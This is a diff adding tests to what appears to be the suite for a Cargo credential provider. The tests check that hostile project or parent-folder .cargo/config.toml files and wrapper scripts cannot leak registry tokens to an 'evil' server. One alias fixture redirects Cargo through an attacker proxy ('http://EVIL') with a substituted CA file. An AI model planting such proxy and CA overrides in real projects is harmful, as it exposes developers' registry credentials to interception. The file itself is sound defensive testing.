@@ -141,6 +141,29 @@ describe.skipIf(!requires("cargo"))("a cloned project", () => {
     120_000,
   );
 
+  test("cargo install CRATE reads the folders above CARGO_HOME: they count", async () => {
+    const shared = project({ "../.cargo/config.toml": hostile.replace("ca.pem", "CAPATH") });
+    const cargoHome = join(shared, "cargo-home");
+    mkdirSync(cargoHome);
+    copyFileSync(join(laptop.home, ".cargo/config.toml"), join(cargoHome, "config.toml"));
+    const install = ["install", "my-crate", "--registry", registryName, "--root", join(laptop.folder, "root")];
+    const { exitCode, stderr } = await cargo(install, { cwd: clean, env: { CARGO_HOME: cargoHome } });
+    expect(exitCode).not.toBe(0);
+    expect(stderr).toContain(proxyAndCa);
+    expect(evil.requests.join("\n")).not.toMatch(token);
+  }, 120_000);
+
+  test("a wrapper between Cargo and Vouch hides nothing", async () => {
+    const wrapper = join(laptop.folder, "wrapper");
+    writeFileSync(wrapper, `#!/bin/sh\n"${executable}" "$@"\n`, { mode: 0o755 });
+    const env = { CARGO_REGISTRIES_MY_CODEARTIFACT_REGISTRY_CREDENTIAL_PROVIDER: wrapper };
+    const folder = project({ ".cargo/config.toml": hostile });
+    const { stderr } = await cargo(["install", "--path", folder], { cwd: clean, env });
+    expect(stderr).toContain(proxyAndCa);
+    expect(evil.requests.join("\n")).not.toMatch(token);
+    await ended(cargo(["fetch"], { cwd: project({}), env }));
+  }, 120_000);
+
   test("an alias of the project that brings other configuration is refused when it is used", async () => {
     const config = `[alias]\nget = ["fetch", "--config", "http.proxy='http://EVIL'", "--config", "http.cainfo='CAPATH'"]\n`;
     const folder = project({ ".cargo/config.toml": config });
